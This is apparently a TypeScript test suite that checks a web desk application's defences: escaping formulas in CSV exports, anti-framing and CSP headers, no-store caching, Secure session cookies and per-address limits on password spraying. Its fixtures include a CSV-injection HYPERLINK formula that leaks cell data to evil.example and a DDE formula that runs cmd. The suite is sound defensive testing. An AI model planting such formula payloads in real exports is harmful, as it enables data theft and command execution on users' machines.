// The desk against the browser-side attacks, on both stores: formulas in CSV
// exports, framing, cached firm data, session cookies sent in clear, password
// spraying from one address.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { parse as parseCsv } from 'csv-parse/sync';
import { ManualClock } from '../../src/wire/index.ts';
import { sampleResultForm, seedDemo, startDesk, type PracticeSession, type RunningDesk, type Subscriber } from '../../src/desk/index.ts';
import { DeskClient } from '../helpers/desk-client.ts';
import { storeVariants } from '../helpers/stores.ts';

const PW = 'password-for-hardening';
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const DDE = "=cmd|' /C calc'!A0";

for (const variant of storeVariants()) {
  describe(`desk hardening on ${variant.name}`, { skip: variant.skip }, () => {
    let desk: RunningDesk;
    let clock: ManualClock;
    let dbPath: string;
    let session: PracticeSession;
    let firmA: Subscriber;
    const extra: RunningDesk[] = [];
    const officer = () => new DeskClient(desk.url);

    before(async () => {
      clock = new ManualClock();
      dbPath = await variant.freshDb();
      desk = await startDesk({ db: dbPath, clock, evidenceToken: 'hardening-token', login: { maxFailuresPerAddress: 4 } });
      const seed = await seedDemo(desk.store, { now: clock.now(), password: PW, scryptCost: 1024, subscribers: 2 });
      session = seed.session;
      firmA = seed.subscribers[0]!;
    });
    after(async () => {
      for (const d of extra) await d.close();
      await desk?.close();
    });

    /** Another desk process on the same database (another API replica). */
    async function replica(opts: Parameters<typeof startDesk>[0] = {}): Promise<RunningDesk> {
      const d = await startDesk({ db: dbPath, clock, evidenceToken: 'hardening-token', login: { maxFailuresPerAddress: 4 }, ...opts });
      extra.push(d);
      return d;
    }

    describe('CSV exports', () => {
      it('results.csv keeps formulas typed into a form as text', async () => {
        const firm = new DeskClient(desk.url);
        assert.equal((await firm.login('firm-a.user', PW)).status, 200);
        const form = sampleResultForm(session, firmA);
        form.signatory = { name: '+SUM(1,2)', title: HYPERLINK };
        form.sections[0]!.overall = 'passed-with-issues';
        form.sections[0]!.problems = [{ time: '10:05', description: DDE, reference: '@ref' }];
        const r = await firm.post(`/api/sessions/${session.id}/forms/result/${firmA.id}`, { submissionId: 'csv-formula-0001', form });
        assert.equal(r.status, 201, r.text);
        const d = officer();
        await d.login('desk', PW);
        const csv = await d.get(`/api/sessions/${session.id}/export/results.csv`);
        assert.equal(csv.status, 200);
        const rows = parseCsv(csv.text, { bom: true }) as string[][];
        assert.equal(rows.length, 1 + form.sections.length);
        const header = rows[0]!;
        const col = (name: string) => header.indexOf(name);
        for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
        assert.equal(rows[1]![col('signatoryTitle')], `'${HYPERLINK}`);
        assert.equal(rows[1]![col('signatoryName')], "'+SUM(1,2)");
        assert.ok(
          rows.some((row) => row[col('problems')]!.includes(DDE)),
          'the problem text is kept',
        );
      });
    });

    describe('response headers', () => {
      it('no page may be framed; the UI runs under a same-origin content security policy', async () => {
        for (const path of ['/', '/api/health', '/api/auth/me', '/sessions/ps2-2026']) {
          const r = await new DeskClient(desk.url).get(path);
          assert.equal(r.headers.get('x-frame-options'), 'DENY', path);
          const csp = r.headers.get('content-security-policy') ?? '';
          assert.match(csp, /frame-ancestors 'none'/, path);
          assert.match(csp, /default-src 'self'/, path);
          assert.match(csp, /script-src 'self'(;|$)/, path);
          assert.equal(r.headers.get('x-content-type-options'), 'nosniff', path);
        }
      });

      it('API answers with firm data are never cached', async () => {
        const d = officer();
        await d.login('desk', PW);
        for (const path of [
          `/api/sessions/${session.id}/forms/result/${firmA.id}`,
          `/api/sessions/${session.id}/dashboard`,
          `/api/sessions/${session.id}/export/results.csv`,
          `/api/subscribers/${firmA.id}`,
          '/api/auth/me',
          `/api/sessions/${session.id}/subscribers/${firmA.id}/evidence-bundle.tar`,
        ]) {
          const r = await d.get(path);
          assert.equal(r.status, 200, `${path}: ${r.text.slice(0, 200)}`);
          assert.equal(r.headers.get('cache-control'), 'no-store', path);
        }
        // Refusals too (they may name firms).
        assert.equal((await new DeskClient(desk.url).get(`/api/subscribers/${firmA.id}`)).headers.get('cache-control'), 'no-store');
      });
    });

    describe('the session cookie', () => {
      const cookieOf = async (url: string, headers: Record<string, string> = {}) => {
        const r = await new DeskClient(url).post('/api/auth/login', { username: 'firm-b.user', password: PW }, { headers });
        assert.equal(r.status, 200, r.text);
        return r.headers.getSetCookie().find((c) => c.startsWith('fd_session='))!;
      };

      it('is Secure when a trusted proxy says the browser came over TLS, not otherwise', async () => {
        const behindProxy = await replica({ trustProxy: '127.0.0.1' });
        assert.match(await cookieOf(behindProxy.url, { 'x-forwarded-proto': 'https' }), /;\s*Secure/i);
        assert.doesNotMatch(await cookieOf(behindProxy.url), /;\s*Secure/i);
        assert.doesNotMatch(await cookieOf(behindProxy.url, { 'x-forwarded-proto': 'http' }), /;\s*Secure/i);
        // A client that is not the trusted proxy cannot claim TLS.
        assert.doesNotMatch(await cookieOf(desk.url, { 'x-forwarded-proto': 'https' }), /;\s*Secure/i);
        const https = await behindProxy.app.inject({ method: 'GET', url: '/api/health', headers: { 'x-forwarded-proto': 'https' } });
        assert.match(String(https.headers['strict-transport-security']), /max-age=\d+/);
      });

      it('is always Secure with secureCookies: true (a desk behind TLS the proxy does not announce)', async () => {
        const always = await replica({ secureCookies: true });
        assert.match(await cookieOf(always.url), /;\s*Secure/i);
      });
    });

    describe('password spraying', () => {
      it('one address trying many usernames is refused, on every replica, until the window passes', async () => {
        const viaProxy = await replica({ trustProxy: '127.0.0.1' });
        const from = (ip: string) => ({ 'x-forwarded-for': ip });
        const spray = new DeskClient(viaProxy.url);
        for (const username of ['alice.x', 'bob.x', 'carol.x', 'dave.x']) {
          const r = await spray.post('/api/auth/login', { username, password: 'Summer2026!' }, { headers: from('203.0.113.7') });
          assert.equal(r.status, 401);
          assert.equal(r.body.error.code, 'INVALID_CREDENTIALS');
        }
        // No username reached its own limit (5), yet the address is refused, even with a right password.
        const refused = await spray.post('/api/auth/login', { username: 'firm-b.user', password: PW }, { headers: from('203.0.113.7') });
        assert.equal(refused.status, 429);
        assert.equal(refused.body.error.code, 'LOGIN_ADDRESS_RATE_LIMITED');
        assert.match(refused.body.error.message, /from this address/);
        assert.ok(Number(refused.headers.get('retry-after')) > 0);
        // Counted in the store: another replica behind the same proxy refuses the address too.
        const other = await replica({ trustProxy: '127.0.0.1' });
        assert.equal(
          (await new DeskClient(other.url).post('/api/auth/login', { username: 'erin.x', password: 'x' }, { headers: from('203.0.113.7') })).body.error.code,
          'LOGIN_ADDRESS_RATE_LIMITED',
        );
        // Other addresses are not affected; nor is a neighbour in the same IPv4 range.
        assert.equal(
          (await new DeskClient(viaProxy.url).post('/api/auth/login', { username: 'firm-b.user', password: PW }, { headers: from('203.0.113.8') })).status,
          200,
        );
        clock.advance(15 * 60_000 + 1);
        assert.equal(
          (await new DeskClient(viaProxy.url).post('/api/auth/login', { username: 'firm-b.user', password: PW }, { headers: from('203.0.113.7') })).status,
          200,
        );
      });

      it('IPv6 addresses of one /64 count as one address', async () => {
        const viaProxy = await replica({ trustProxy: '127.0.0.1' });
        for (let i = 1; i <= 4; i++) {
          const r = await new DeskClient(viaProxy.url).post(
            '/api/auth/login',
            { username: `v6-${i}.x`, password: 'guess' },
            { headers: { 'x-forwarded-for': `2001:db8:1:2::${i}` } },
          );
          assert.equal(r.status, 401);
        }
        const r = await new DeskClient(viaProxy.url).post(
          '/api/auth/login',
          { username: 'v6-9.x', password: 'guess' },
          { headers: { 'x-forwarded-for': '2001:db8:1:2:ffff::9' } },
        );
        assert.equal(r.body.error.code, 'LOGIN_ADDRESS_RATE_LIMITED');
        const elsewhere = await new DeskClient(viaProxy.url).post(
          '/api/auth/login',
          { username: 'firm-b.user', password: PW },
          { headers: { 'x-forwarded-for': '2001:db8:1:3::1' } },
        );
        assert.equal(elsewhere.status, 200);
      });
    });
  });
}
